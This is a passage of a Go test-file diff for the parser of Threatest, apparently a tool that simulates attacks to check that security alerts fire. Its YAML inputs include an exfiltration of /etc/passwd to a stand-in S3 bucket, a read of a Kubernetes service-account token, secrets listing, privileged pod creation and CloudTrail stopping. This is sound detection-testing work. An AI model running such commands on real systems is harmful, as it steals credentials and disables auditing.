@@ -1,8 +1,17 @@
 package parser
 
 import (
+	"fmt"
+	"github.com/datadog/threatest/pkg/threatest"
+	"github.com/datadog/threatest/pkg/threatest/detonators"
+	"github.com/datadog/threatest/pkg/threatest/matchers"
+	"github.com/datadog/threatest/pkg/threatest/matchers/datadog"
+	"github.com/datadog/threatest/pkg/threatest/matchers/elastic"
 	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+	"strings"
 	"testing"
+	"time"
 )
 
 // TestParserRejectsDetonatorWithMissingRequiredField ensures the parser returns
@@ -43,6 +52,71 @@ scenarios:
 `,
 			expectedError: "scenario 'B' has a Stratus Red Team detonator with no attackTechnique defined",
 		},
+		{
+			name: "containerDetonator without container or image",
+			yamlInput: `
+scenarios:
+  - name: C
+    detonate:
+      containerDetonator:
+        commands: ["whoami"]
+    expectations:
+      - timeout: 1m
+        datadogSecuritySignal:
+          name: foo
+`,
+			expectedError: "scenario 'C' has a container detonator with no container or image defined",
+		},
+		{
+			name: "containerDetonator with both container and image",
+			yamlInput: `
+scenarios:
+  - name: D
+    detonate:
+      containerDetonator:
+        container: web
+        image: alpine:3.19
+        commands: ["whoami"]
+    expectations:
+      - timeout: 1m
+        datadogSecuritySignal:
+          name: foo
+`,
+			expectedError: "scenario 'D' has a container detonator with both a container and an image defined",
+		},
+		{
+			name: "kubernetesPodDetonator without labelSelector or image",
+			yamlInput: `
+scenarios:
+  - name: E
+    detonate:
+      kubernetesPodDetonator:
+        namespace: production
+        commands: ["whoami"]
+    expectations:
+      - timeout: 1m
+        datadogSecuritySignal:
+          name: foo
+`,
+			expectedError: "scenario 'E' has a Kubernetes pod detonator with no labelSelector or image defined",
+		},
+		{
+			name: "kubernetesApiDetonator create action without object",
+			yamlInput: `
+scenarios:
+  - name: F
+    detonate:
+      kubernetesApiDetonator:
+        actions:
+          - verb: create
+            resource: pods
+    expectations:
+      - timeout: 1m
+        datadogSecuritySignal:
+          name: foo
+`,
+			expectedError: "scenario 'F' has a Kubernetes API detonator with no object defined for action 1",
+		},
 	}
 
 	for _, tc := range cases {
@@ -109,3 +183,798 @@ scenarios:
 	assert.Len(t, scenarios[2].Assertions, 1)
 	assert.Equal(t, "Elastic Security alert 'Network utility accessed cloud metadata service'", scenarios[2].Assertions[0].String())
 }
+
+func TestParserHonorsTimeoutOfEveryExpectation(t *testing.T) {
+	yamlInput := `
+scenarios:
+  - name: fast and slow rules
+    detonate:
+      localDetonator:
+        commands: ["whoami"]
+    expectations:
+      - timeout: 1m
+        datadogSecuritySignal:
+          name: fast
+      - timeout: 15m
+        elasticSecuritySignal:
+          name: slow
+      - datadogSecuritySignal:
+          name: default
+`
+	scenarios, err := Parse([]byte(yamlInput), "", "", "")
+	assert.Nil(t, err)
+	assert.Len(t, scenarios, 1)
+	assert.Len(t, scenarios[0].Assertions, 3)
+	assert.Equal(t, 1*time.Minute, scenarios[0].Assertions[0].Timeout)
+	assert.Equal(t, 15*time.Minute, scenarios[0].Assertions[1].Timeout)
+	assert.Equal(t, 5*time.Minute, scenarios[0].Assertions[2].Timeout)
+}
+
+func TestParserRejectsInvalidTimeout(t *testing.T) {
+	yamlInput := `
+scenarios:
+  - name: A
+    detonate:
+      localDetonator:
+        commands: ["whoami"]
+    expectations:
+      - timeout: 1m
+        datadogSecuritySignal:
+          name: foo
+      - timeout: soon
+        datadogSecuritySignal:
+          name: bar
+`
+	scenarios, err := Parse([]byte(yamlInput), "", "", "")
+	assert.Nil(t, scenarios)
+	assert.ErrorContains(t, err, "scenario 'A' has an invalid timeout 'soon'")
+}
+
+func TestParserParsesNegativeExpectations(t *testing.T) {
+	yamlInput := `
+scenarios:
+  - name: benign activity
+    detonate:
+      localDetonator:
+        commands: ["ls /tmp"]
+    expectations:
+      - timeout: 10m
+        notExpected: true
+        datadogSecuritySignal:
+          name: "Suspicious file listing"
+      - timeout: 10m
+        notExpected: true
+        elasticSecuritySignal:
+          name: "Suspicious file listing"
+      - timeout: 1m
+        datadogSecuritySignal:
+          name: "Shell started"
+`
+	scenarios, err := Parse([]byte(yamlInput), "", "", "")
+	assert.Nil(t, err)
+	assert.Len(t, scenarios, 1)
+	assert.Len(t, scenarios[0].Assertions, 3)
+	assert.True(t, scenarios[0].Assertions[0].NoAlert)
+	assert.Equal(t, 10*time.Minute, scenarios[0].Assertions[0].Timeout)
+	assert.True(t, scenarios[0].Assertions[1].NoAlert)
+	assert.Equal(t, "Elastic Security alert 'Suspicious file listing'", scenarios[0].Assertions[1].String())
+	assert.False(t, scenarios[0].Assertions[2].NoAlert)
+}
+
+func TestParserParsesRetryPolicy(t *testing.T) {
+	yamlInput := `
+scenarios:
+  - name: with retries
+    detonate:
+      stratusRedTeamDetonator:
+        attackTechnique: aws.defense-evasion.cloudtrail-stop
+    retry:
+      maxAttempts: 3
+      backoff: 1m
+    expectations:
+      - timeout: 15m
+        datadogSecuritySignal:
+          name: foo
+  - name: with extended waiting
+    detonate:
+      stratusRedTeamDetonator:
+        attackTechnique: aws.defense-evasion.cloudtrail-stop
+    retry:
+      maxAttempts: 2
+      redetonate: false
+    expectations:
+      - timeout: 15m
+        datadogSecuritySignal:
+          name: foo
+  - name: without retries
+    detonate:
+      stratusRedTeamDetonator:
+        attackTechnique: aws.defense-evasion.cloudtrail-stop
+    expectations:
+      - timeout: 15m
+        datadogSecuritySignal:
+          name: foo
+`
+	scenarios, err := Parse([]byte(yamlInput), "", "", "")
+	assert.Nil(t, err)
+	assert.Len(t, scenarios, 3)
+	assert.Equal(t, threatest.RetryPolicy{MaxAttempts: 3, Redetonate: true, Backoff: 1 * time.Minute}, scenarios[0].Retry)
+	assert.Equal(t, threatest.RetryPolicy{MaxAttempts: 2, Redetonate: false, Backoff: 0}, scenarios[1].Retry)
+	assert.Equal(t, threatest.RetryPolicy{}, scenarios[2].Retry)
+}
+
+func TestParserRejectsInvalidRetryPolicy(t *testing.T) {
+	yamlInput := `
+scenarios:
+  - name: A
+    detonate:
+      localDetonator:
+        commands: ["whoami"]
+    retry:
+      maxAttempts: 0
+    expectations:
+      - datadogSecuritySignal:
+          name: foo
+`
+	scenarios, err := Parse([]byte(yamlInput), "", "", "")
+	assert.Nil(t, scenarios)
+	assert.EqualError(t, err, "scenario 'A' has an invalid retry policy: maxAttempts must be at least 1")
+}
+
+func TestParserParsesDetonationTimeout(t *testing.T) {
+	yamlInput := `
+scenarios:
+  - name: with detonation timeout
+    detonate:
+      timeout: 30s
+      localDetonator:
+        commands: ["sleep 3600"]
+    expectations:
+      - datadogSecuritySignal:
+          name: foo
+  - name: without detonation timeout
+    detonate:
+      localDetonator:
+        commands: ["whoami"]
+    expectations:
+      - datadogSecuritySignal:
+          name: foo
+  - name: with invalid detonation timeout
+    detonate:
+      timeout: never
+      localDetonator:
+        commands: ["whoami"]
+    expectations:
+      - datadogSecuritySignal:
+          name: foo
+`
+	scenarios, err := Parse([]byte(yamlInput), "", "", "")
+	assert.Nil(t, scenarios)
+	assert.ErrorContains(t, err, "scenario 'with invalid detonation timeout' has an invalid detonation timeout 'never'")
+
+	scenarios, err = Parse([]byte(strings.Split(yamlInput, "  - name: with invalid")[0]), "", "", "")
+	assert.Nil(t, err)
+	assert.Len(t, scenarios, 2)
+	assert.Equal(t, 30*time.Second, scenarios[0].DetonationTimeout)
+	assert.Zero(t, scenarios[1].DetonationTimeout)
+}
+
+func TestParserParsesAttackChains(t *testing.T) {
+	yamlInput := `
+scenarios:
+  - name: recon then exfiltration
+    detonate:
+      steps:
+        - localDetonator:
+            commands: ["whoami"]
+        - delay: 2m
+          awsCliDetonator:
+            script: aws s3 cp /etc/passwd s3://exfil-bucket
+    expectations:
+      - datadogSecuritySignal:
+          name: "Recon followed by exfiltration"
+`
+	scenarios, err := Parse([]byte(yamlInput), "", "", "")
+	assert.Nil(t, err)
+	assert.Len(t, scenarios, 1)
+	chain, ok := scenarios[0].Detonator.(*detonators.ChainDetonator)
+	if assert.True(t, ok) && assert.Len(t, chain.Steps, 2) {
+		assert.IsType(t, &detonators.CommandDetonatorImpl{}, chain.Steps[0].Detonator)
+		assert.Zero(t, chain.Steps[0].Delay)
+		assert.IsType(t, &detonators.AWSCLIDetonator{}, chain.Steps[1].Detonator)
+		assert.Equal(t, 2*time.Minute, chain.Steps[1].Delay)
+	}
+}
+
+func TestParserRejectsInvalidAttackChains(t *testing.T) {
+	yamlInput := `
+scenarios:
+  - name: A
+    detonate:
+      steps:
+        - localDetonator:
+            commands: ["whoami"]
+        - %s
+    expectations:
+      - datadogSecuritySignal:
+          name: foo
+`
+	scenarios, err := Parse([]byte(fmt.Sprintf(yamlInput, `delay: 1m`)), "", "", "")
+	assert.Nil(t, scenarios)
+	assert.EqualError(t, err, "scenario 'A' has no detonation defined for step 2")
+
+	scenarios, err = Parse([]byte(fmt.Sprintf(yamlInput, `{delay: later, localDetonator: {commands: ["id"]}}`)), "", "", "")
+	assert.Nil(t, scenarios)
+	assert.ErrorContains(t, err, "scenario 'A' has an invalid delay 'later' for step 2")
+}
+
+func TestParserParsesDetonationChecks(t *testing.T) {
+	yamlInput := `
+scenarios:
+  - name: with checks
+    detonate:
+      localDetonator:
+        commands: ["curl http://example.com"]
+        checks:
+          onFailure: warn
+          expectedExitCodes: [0, 7]
+          expectedOutputContains: ["Example Domain"]
+    expectations:
+      - datadogSecuritySignal:
+          name: foo
+  - name: AWS CLI without checks
+    detonate:
+      awsCliDetonator:
+        script: aws sts get-caller-identity
+    expectations:
+      - datadogSecuritySignal:
+          name: foo
+`
+	scenarios, err := Parse([]byte(yamlInput), "", "", "")
+	assert.Nil(t, err)
+	assert.Len(t, scenarios, 2)
+	if detonator, ok := scenarios[0].Detonator.(*detonators.CommandDetonatorImpl); assert.True(t, ok) {
+		assert.Equal(t, detonators.DetonationChecks{
+			OnFailure:              detonators.FailurePolicyWarn,
+			ExpectedExitCodes:      []int{0, 7},
+			ExpectedOutputContains: []string{"Example Domain"},
+		}, detonator.Checks)
+	}
+	if detonator, ok := scenarios[1].Detonator.(*detonators.AWSCLIDetonator); assert.True(t, ok) {
+		assert.Zero(t, detonator.Checks)
+	}
+
+	scenarios, err = Parse([]byte(strings.Replace(yamlInput, "onFailure: warn", "onFailure: panic", 1)), "", "", "")
+	assert.Nil(t, scenarios)
+	assert.ErrorContains(t, err, `invalid value (expected one of []interface {}{"ignore", "warn", "fail"}): "panic"`)
+}
+
+func TestParserParsesCorrelationStrategies(t *testing.T) {
+	yamlInput := `
+scenarios:
+  - name: environment variable
+    detonate:
+      localDetonator:
+        commands: ["whoami"]
+        correlation:
+          strategy: environmentVariable
+          variable: RUN_ID
+    expectations:
+      - datadogSecuritySignal:
+          name: foo
+  - name: template
+    detonate:
+      localDetonator:
+        commands: ["curl http://example.com"]
+        correlation:
+          strategy: template
+          template: "cp /bin/bash /tmp/{{.DetonationUuid}}-curl; /tmp/{{.DetonationUuid}}-curl -c {{.Command}}"
+          cleanup: "rm -f /tmp/{{.DetonationUuid}}-curl"
+    expectations:
+      - datadogSecuritySignal:
+          name: foo
+  - name: default
+    detonate:
+      localDetonator:
+        commands: ["whoami"]
+    expectations:
+      - datadogSecuritySignal:
+          name: foo
+`
+	scenarios, err := Parse([]byte(yamlInput), "", "", "")
+	assert.Nil(t, err)
+	assert.Len(t, scenarios, 3)
+	if detonator, ok := scenarios[0].Detonator.(*detonators.CommandDetonatorImpl); assert.True(t, ok) {
+		assert.Equal(t, &detonators.EnvironmentVariableCorrelation{Variable: "RUN_ID"}, detonator.Correlation)
+	}
+	if detonator, ok := scenarios[1].Detonator.(*detonators.CommandDetonatorImpl); assert.True(t, ok) {
+		assert.Equal(t, &detonators.TemplateCorrelation{
+			Template: "cp /bin/bash /tmp/{{.DetonationUuid}}-curl; /tmp/{{.DetonationUuid}}-curl -c {{.Command}}",
+			Cleanup:  "rm -f /tmp/{{.DetonationUuid}}-curl",
+		}, detonator.Correlation)
+	}
+	if detonator, ok := scenarios[2].Detonator.(*detonators.CommandDetonatorImpl); assert.True(t, ok) {
+		assert.Nil(t, detonator.Correlation)
+	}
+}
+
+func TestParserRejectsInvalidCorrelationStrategies(t *testing.T) {
+	yamlInput := `
+scenarios:
+  - name: A
+    detonate:
+      localDetonator:
+        commands: ["whoami"]
+        correlation: %s
+    expectations:
+      - datadogSecuritySignal:
+          name: foo
+`
+	scenarios, err := Parse([]byte(fmt.Sprintf(yamlInput, `{strategy: magic}`)), "", "", "")
+	assert.Nil(t, scenarios)
+	assert.ErrorContains(t, err, `invalid value (expected one of`)
+
+	scenarios, err = Parse([]byte(fmt.Sprintf(yamlInput, `{path: /tmp/foo}`)), "", "", "")
+	assert.Nil(t, scenarios)
+	assert.ErrorContains(t, err, "field strategy in CorrelationSchemaJson: required")
+
+	scenarios, err = Parse([]byte(fmt.Sprintf(yamlInput, `{strategy: template}`)), "", "", "")
+	assert.Nil(t, scenarios)
+	assert.EqualError(t, err, "scenario 'A' has a 'template' correlation strategy with no template defined")
+
+	scenarios, err = Parse([]byte(fmt.Sprintf(yamlInput, `{strategy: workingDirectory, path: /tmp}`)), "", "", "")
+	assert.Nil(t, scenarios)
+	assert.EqualError(t, err, "scenario 'A' has an invalid correlation strategy 'workingDirectory': 'invalid working directory: template '/tmp' does not reference {{.DetonationUuid}}'")
+}
+
+func TestParserParsesSSHHostKeyVerification(t *testing.T) {
+	yamlInput := `
+scenarios:
+  - name: pinned host key
+    detonate:
+      remoteDetonator:
+        hostKeyFingerprints: ["SHA256:jEVgo2TDBJdsFH3sXw4FmDGFzC6fJ8BaZzL4a9Rk4Y4"]
+        commands: ["whoami"]
+    expectations:
+      - datadogSecuritySignal:
+          name: foo
+  - name: known host
+    detonate:
+      remoteDetonator:
+        commands: ["whoami"]
+    expectations:
+      - datadogSecuritySignal:
+          name: foo
+`
+	scenarios, err := ParseWithSSHOptions([]byte(yamlInput), SSHOptions{Hostname: "test-box", HostKeyPolicy: detonators.HostKeyPolicyTrustOnFirstUse})
+	require.NoError(t, err)
+	require.Len(t, scenarios, 2)
+	if detonator, ok := scenarios[0].Detonator.(*detonators.CommandDetonatorImpl); assert.True(t, ok) {
+		executor := detonator.Detonator.(*detonators.SSHCommandExecutor)
+		assert.Equal(t, "test-box", executor.SSHHostname)
+		assert.Equal(t, []string{"SHA256:jEVgo2TDBJdsFH3sXw4FmDGFzC6fJ8BaZzL4a9Rk4Y4"}, executor.HostKeyFingerprints)
+	}
+	if detonator, ok := scenarios[1].Detonator.(*detonators.CommandDetonatorImpl); assert.True(t, ok) {
+		executor := detonator.Detonator.(*detonators.SSHCommandExecutor)
+		assert.Equal(t, detonators.HostKeyPolicyTrustOnFirstUse, executor.HostKeyPolicy)
+		assert.Empty(t, executor.HostKeyFingerprints)
+	}
+
+	_, err = Parse([]byte(strings.Replace(yamlInput, "SHA256:", "MD5:", 1)), "test-box", "", "")
+	assert.EqualError(t, err, "scenario 'pinned host key' has a remote detonator with an invalid host key fingerprint 'MD5:jEVgo2TDBJdsFH3sXw4FmDGFzC6fJ8BaZzL4a9Rk4Y4', expected SHA256:<base64>")
+}
+
+func TestParserParsesContainerDetonators(t *testing.T) {
+	yamlInput := `
+scenarios:
+  - name: existing container
+    detonate:
+      containerDetonator:
+        container: web
+        commands: ["whoami", "id"]
+        checks:
+          expectedExitCodes: [0]
+        correlation:
+          strategy: argvMarker
+    expectations:
+      - datadogSecuritySignal:
+          name: foo
+  - name: ephemeral container
+    detonate:
+      steps:
+        - containerDetonator:
+            image: alpine:3.19
+            socket: /run/user/1000/docker.sock
+            commands: ["whoami"]
+    expectations:
+      - datadogSecuritySignal:
+          name: foo
+`
+	scenarios, err := Parse([]byte(yamlInput), "", "", "")
+	require.NoError(t, err)
+	require.Len(t, scenarios, 2)
+	if detonator, ok := scenarios[0].Detonator.(*detonators.CommandDetonatorImpl); assert.True(t, ok) {
+		assert.Equal(t, detonators.NewContainerCommandExecutor("web"), detonator.Detonator)
+		assert.Equal(t, "whoami; id", detonator.Technique.Command)
+		assert.Equal(t, []int{0}, detonator.Checks.ExpectedExitCodes)
+		assert.Equal(t, &detonators.ArgvMarkerCorrelation{}, detonator.Correlation)
+	}
+	chain, ok := scenarios[1].Detonator.(*detonators.ChainDetonator)
+	if assert.True(t, ok) && assert.Len(t, chain.Steps, 1) {
+		detonator, ok := chain.Steps[0].Detonator.(*detonators.CommandDetonatorImpl)
+		if assert.True(t, ok) {
+			assert.Equal(t, &detonators.ContainerCommandExecutor{Image: "alpine:3.19", Socket: "/run/user/1000/docker.sock"}, detonator.Detonator)
+		}
+	}
+}
+
+func TestParserParsesKubernetesPodDetonators(t *testing.T) {
+	yamlInput := `
+scenarios:
+  - name: existing pod
+    detonate:
+      kubernetesPodDetonator:
+        kubeconfig: /etc/threatest/kubeconfig
+        context: production
+        namespace: web
+        labelSelector: app=nginx
+        container: nginx
+        commands: ["cat /var/run/secrets/kubernetes.io/serviceaccount/token"]
+    expectations:
+      - datadogSecuritySignal:
+          name: foo
+  - name: debug pod
+    detonate:
+      kubernetesPodDetonator:
+        image: alpine:3.19
+        commands: ["whoami"]
+    expectations:
+      - datadogSecuritySignal:
+          name: foo
+`
+	scenarios, err := Parse([]byte(yamlInput), "", "", "")
+	require.NoError(t, err)
+	require.Len(t, scenarios, 2)
+	if detonator, ok := scenarios[0].Detonator.(*detonators.CommandDetonatorImpl); assert.True(t, ok) {
+		assert.Equal(t, &detonators.KubernetesCommandExecutor{
+			Kubeconfig:    "/etc/threatest/kubeconfig",
+			Context:       "production",
+			Namespace:     "web",
+			LabelSelector: "app=nginx",
+			Container:     "nginx",
+		}, detonator.Detonator)
+		assert.Equal(t, "cat /var/run/secrets/kubernetes.io/serviceaccount/token", detonator.Technique.Command)
+	}
+	if detonator, ok := scenarios[1].Detonator.(*detonators.CommandDetonatorImpl); assert.True(t, ok) {
+		assert.Equal(t, detonators.NewEphemeralKubernetesCommandExecutor("", "alpine:3.19"), detonator.Detonator)
+	}
+
+	_, err = Parse([]byte(strings.Replace(yamlInput, "image: alpine:3.19", "image: alpine:3.19\n        container: debug", 1)), "", "", "")
+	assert.ErrorContains(t, err, "scenario 'debug pod' has a Kubernetes pod detonator with a container defined for its debug pod")
+}
+
+func TestParserParsesKubernetesAPIDetonators(t *testing.T) {
+	yamlInput := `
+scenarios:
+  - name: secrets listing and privileged pod
+    detonate:
+      kubernetesApiDetonator:
+        context: production
+        namespace: web
+        actions:
+          - verb: list
+            resource: secrets
+            namespace: kube-system
+          - verb: create
+            object:
+              apiVersion: v1
+              kind: Pod
+              metadata:
+                name: privileged
+              spec:
+                containers:
+                  - name: main
+                    image: alpine:3.19
+                    securityContext:
+                      privileged: true
+          - verb: get
+            apiVersion: rbac.authorization.k8s.io/v1
+            resource: clusterroles
+            name: cluster-admin
+    expectations:
+      - datadogSecuritySignal:
+          name: foo
+`
+	scenarios, err := Parse([]byte(yamlInput), "", "", "")
+	require.NoError(t, err)
+	require.Len(t, scenarios, 1)
+	if detonator, ok := scenarios[0].Detonator.(*detonators.KubernetesAPIDetonator); assert.True(t, ok) {
+		assert.Equal(t, "production", detonator.Context)
+		assert.Equal(t, "web", detonator.Namespace)
+		require.Len(t, detonator.Actions, 3)
+		assert.Equal(t, detonators.KubernetesAction{Verb: "list", Resource: "secrets", Namespace: "kube-system"}, detonator.Actions[0])
+		assert.Equal(t, "create", detonator.Actions[1].Verb)
+		assert.Equal(t, "Pod", detonator.Actions[1].Object["kind"])
+		assert.Equal(t, detonators.KubernetesAction{Verb: "get", APIVersion: "rbac.authorization.k8s.io/v1", Resource: "clusterroles", Name: "cluster-admin"}, detonator.Actions[2])
+	}
+
+	_, err = Parse([]byte(strings.Replace(yamlInput, "name: cluster-admin", "", 1)), "", "", "")
+	assert.EqualError(t, err, "scenario 'secrets listing and privileged pod' has a Kubernetes API detonator with no name defined for action 3")
+	_, err = Parse([]byte(strings.Replace(yamlInput, "verb: list", "verb: patch", 1)), "", "", "")
+	assert.ErrorContains(t, err, "invalid value")
+}
+
+func TestParserParsesAlertCorrelators(t *testing.T) {
+	yamlInput := `
+scenarios:
+  - name: A
+    detonate:
+      localDetonator:
+        commands: ["whoami"]
+    expectations:
+      - datadogSecuritySignal:
+          name: foo
+          correlator:
+            field: process.env.THREATEST_DETONATION_UUID
+      - elasticSecuritySignal:
+          name: bar
+          correlator:
+            fieldsContain: [process.command_line, process.parent.executable]
+      - elasticSecuritySignal:
+          name: baz
+          correlator:
+            entity:
+              fields: [host.name]
+      - datadogSecuritySignal:
+          name: qux
+          correlator:
+            entity:
+              fields: [host.name]
+              entities: [web-1]
+              window: 5m
+`
+	scenarios, err := Parse([]byte(yamlInput), "", "", "")
+	require.NoError(t, err)
+	assertions := scenarios[0].Assertions
+	require.Len(t, assertions, 4)
+	assert.Equal(t, &matchers.FieldCorrelator{Field: "process.env.THREATEST_DETONATION_UUID"}, assertions[0].AlertGeneratedMatcher.(*datadog.DatadogAlertGeneratedAssertionBuilder).Correlator)
+	assert.Equal(t, &matchers.FieldsContainCorrelator{Fields: []string{"process.command_line", "process.parent.executable"}}, assertions[1].AlertGeneratedMatcher.(*elastic.ElasticSecurityAlertGeneratedAssertionBuilder).Correlator)
+	assert.Equal(t, &matchers.EntityCorrelator{Fields: []string{"host.name"}, Window: 10 * time.Minute}, assertions[2].AlertGeneratedMatcher.(*elastic.ElasticSecurityAlertGeneratedAssertionBuilder).Correlator)
+	assert.Equal(t, &matchers.EntityCorrelator{Fields: []string{"host.name"}, Entities: []string{"web-1"}, Window: 5 * time.Minute}, assertions[3].AlertGeneratedMatcher.(*datadog.DatadogAlertGeneratedAssertionBuilder).Correlator)
+}
+
+func TestParserRejectsInvalidAlertCorrelators(t *testing.T) {
+	yamlInput := `
+scenarios:
+  - name: A
+    detonate:
+      localDetonator:
+        commands: ["whoami"]
+    expectations:
+      - datadogSecuritySignal:
+          name: foo
+          correlator: %s
+`
+	scenarios, err := Parse([]byte(fmt.Sprintf(yamlInput, `{}`)), "", "", "")
+	assert.Nil(t, scenarios)
+	assert.EqualError(t, err, "scenario 'A' has an alert correlator that does not define exactly one of field, fieldsContain or entity")
+
+	scenarios, err = Parse([]byte(fmt.Sprintf(yamlInput, `{field: foo, fieldsContain: [bar]}`)), "", "", "")
+	assert.Nil(t, scenarios)
+	assert.EqualError(t, err, "scenario 'A' has an alert correlator that does not define exactly one of field, fieldsContain or entity")
+
+	scenarios, err = Parse([]byte(fmt.Sprintf(yamlInput, `{entity: {window: 5m}}`)), "", "", "")
+	assert.Nil(t, scenarios)
+	assert.ErrorContains(t, err, "field fields in AlertCorrelatorSchemaJsonEntity: required")
+
+	scenarios, err = Parse([]byte(fmt.Sprintf(yamlInput, `{entity: {fields: [host.name], window: soon}}`)), "", "", "")
+	assert.Nil(t, scenarios)
+	assert.ErrorContains(t, err, "scenario 'A' has an invalid alert correlation window 'soon'")
+}
+
+func TestParserParsesAlertAttributes(t *testing.T) {
+	yamlInput := `
+scenarios:
+  - name: A
+    detonate:
+      stratusRedTeamDetonator:
+        attackTechnique: aws.defense-evasion.cloudtrail-stop
+    expectations:
+      - datadogSecuritySignal:
+          name: foo
+          attributes:
+            - field: tags
+              equals: "technique:T1562"
+            - field: usr.id
+              matches: "^arn:aws:iam::"
+            - field: network.client.ip
+              exists: true
+      - elasticSecuritySignal:
+          name: bar
+          attributes:
+            - field: kibana.alert.rule.threat.technique.id
+              contains: T1562
+`
+	scenarios, err := Parse([]byte(yamlInput), "", "", "")
+	require.NoError(t, err)
+	assertions := scenarios[0].Assertions
+	require.Len(t, assertions, 2)
+	assert.Equal(t, []matchers.FieldPredicate{
+		matchers.FieldEquals("tags", "technique:T1562"),
+		matchers.FieldMatches("usr.id", "^arn:aws:iam::"),
+		matchers.FieldExists("network.client.ip"),
+	}, assertions[0].AlertGeneratedMatcher.(*datadog.DatadogAlertGeneratedAssertionBuilder).AlertFilter.Attributes)
+	assert.Equal(t, []matchers.FieldPredicate{
+		matchers.FieldContains("kibana.alert.rule.threat.technique.id", "T1562"),
+	}, assertions[1].AlertGeneratedMatcher.(*elastic.ElasticSecurityAlertGeneratedAssertionBuilder).AlertFilter.Attributes)
+}
+
+func TestParserRejectsInvalidAlertAttributes(t *testing.T) {
+	yamlInput := `
+scenarios:
+  - name: A
+    detonate:
+      localDetonator:
+        commands: ["whoami"]
+    expectations:
+      - datadogSecuritySignal:
+          name: foo
+          attributes:
+            - %s
+`
+	scenarios, err := Parse([]byte(fmt.Sprintf(yamlInput, `{field: usr.id}`)), "", "", "")
+	assert.Nil(t, scenarios)
+	assert.EqualError(t, err, "scenario 'A' has a condition on attribute 'usr.id' that does not define exactly one of equals, contains, matches or exists")
+
+	scenarios, err = Parse([]byte(fmt.Sprintf(yamlInput, `{field: usr.id, equals: alice, contains: ali}`)), "", "", "")
+	assert.Nil(t, scenarios)
+	assert.EqualError(t, err, "scenario 'A' has a condition on attribute 'usr.id' that does not define exactly one of equals, contains, matches or exists")
+
+	scenarios, err = Parse([]byte(fmt.Sprintf(yamlInput, `{field: usr.id, matches: "("}`)), "", "", "")
+	assert.Nil(t, scenarios)
+	assert.ErrorContains(t, err, "scenario 'A' has an invalid condition on attribute 'usr.id': 'invalid regular expression for field usr.id")
+
+	scenarios, err = Parse([]byte(fmt.Sprintf(yamlInput, `{field: usr.id, exists: false}`)), "", "", "")
+	assert.Nil(t, scenarios)
+	assert.EqualError(t, err, "scenario 'A' has an invalid condition on attribute 'usr.id': only 'exists: true' is supported")
+
+	scenarios, err = Parse([]byte(fmt.Sprintf(yamlInput, `{equals: alice}`)), "", "", "")
+	assert.Nil(t, scenarios)
+	assert.ErrorContains(t, err, "field field in AlertAttributeSchemaJson: required")
+}
+
+func TestParserParsesAlertCounts(t *testing.T) {
+	yamlInput := `
+scenarios:
+  - name: A
+    detonate:
+      stratusRedTeamDetonator:
+        attackTechnique: aws.defense-evasion.cloudtrail-stop
+    expectations:
+      - datadogSecuritySignal:
+          name: foo
+        count:
+          atMost: 1
+          settlePeriod: 2m
+      - elasticSecuritySignal:
+          name: bar
+        count:
+          exactly: 3
+      - datadogSecuritySignal:
+          name: baz
+        count:
+          atLeast: 2
+          atMost: 4
+      - datadogSecuritySignal:
+          name: qux
+`
+	scenarios, err := Parse([]byte(yamlInput), "", "", "")
+	require.NoError(t, err)
+	assertions := scenarios[0].Assertions
+	require.Len(t, assertions, 4)
+	assert.Equal(t, &matchers.CountConstraint{Min: 1, Max: 1, SettlePeriod: 2 * time.Minute}, assertions[0].AlertGeneratedMatcher.(*datadog.DatadogAlertGeneratedAssertionBuilder).Count)
+	assert.Equal(t, &matchers.CountConstraint{Min: 3, Max: 3}, assertions[1].AlertGeneratedMatcher.(*elastic.ElasticSecurityAlertGeneratedAssertionBuilder).Count)
+	assert.Equal(t, &matchers.CountConstraint{Min: 2, Max: 4}, assertions[2].AlertGeneratedMatcher.(*datadog.DatadogAlertGeneratedAssertionBuilder).Count)
+	assert.Nil(t, assertions[3].AlertGeneratedMatcher.(*datadog.DatadogAlertGeneratedAssertionBuilder).Count)
+}
+
+func TestParserRejectsInvalidAlertCounts(t *testing.T) {
+	yamlInput := `
+scenarios:
+  - name: A
+    detonate:
+      localDetonator:
+        commands: ["whoami"]
+    expectations:
+      - datadogSecuritySignal:
+          name: foo
+        count: %s
+`
+	scenarios, err := Parse([]byte(fmt.Sprintf(yamlInput, `{}`)), "", "", "")
+	assert.Nil(t, scenarios)
+	assert.EqualError(t, err, "scenario 'A' has an alert count that defines none of exactly, atLeast or atMost")
+
+	scenarios, err = Parse([]byte(fmt.Sprintf(yamlInput, `{exactly: 2, atMost: 3}`)), "", "", "")
+	assert.Nil(t, scenarios)
+	assert.EqualError(t, err, "scenario 'A' has an alert count that defines both exactly and atLeast or atMost")
+
+	scenarios, err = Parse([]byte(fmt.Sprintf(yamlInput, `{atLeast: 3, atMost: 2}`)), "", "", "")
+	assert.Nil(t, scenarios)
+	assert.EqualError(t, err, "scenario 'A' has an invalid alert count: 'the maximal number of alerts (2) is lower than the minimal one (3)'")
+
+	scenarios, err = Parse([]byte(fmt.Sprintf(yamlInput, `{exactly: 2, settlePeriod: soon}`)), "", "", "")
+	assert.Nil(t, scenarios)
+	assert.ErrorContains(t, err, "scenario 'A' has an invalid settle period 'soon'")
+}
+
+func TestParserParsesCompositeExpectations(t *testing.T) {
+	yamlInput := `
+scenarios:
+  - name: A
+    detonate:
+      stratusRedTeamDetonator:
+        attackTechnique: aws.defense-evasion.cloudtrail-stop
+    expectations:
+      - anyOf:
+          - datadogSecuritySignal:
+              name: foo
+          - elasticSecuritySignal:
+              name: bar
+      - timeout: 10m
+        allOf:
+          - datadogSecuritySignal:
+              name: foo
+          - elasticSecuritySignal:
+              name: bar
+      - ordered:
+          - datadogSecuritySignal:
+              name: initial access
+          - anyOf:
+              - datadogSecuritySignal:
+                  name: lateral movement
+              - elasticSecuritySignal:
+                  name: lateral movement
+`
+	scenarios, err := Parse([]byte(yamlInput), "", "", "")
+	require.NoError(t, err)
+	assertions := scenarios[0].Assertions
+	require.Len(t, assertions, 3)
+
+	anyOf := assertions[0].AlertGeneratedMatcher.(*matchers.AnyOfMatcher)
+	require.Len(t, anyOf.Matchers, 2)
+	assert.IsType(t, &datadog.DatadogAlertGeneratedAssertionBuilder{}, anyOf.Matchers[0])
+	assert.IsType(t, &elastic.ElasticSecurityAlertGeneratedAssertionBuilder{}, anyOf.Matchers[1])
+	assert.Equal(t, "any of (Datadog security signal 'foo', Elastic Security alert 'bar')", anyOf.String())
+
+	assert.IsType(t, &matchers.AllOfMatcher{}, assertions[1].AlertGeneratedMatcher)
+	assert.Equal(t, 10*time.Minute, assertions[1].Timeout)
+
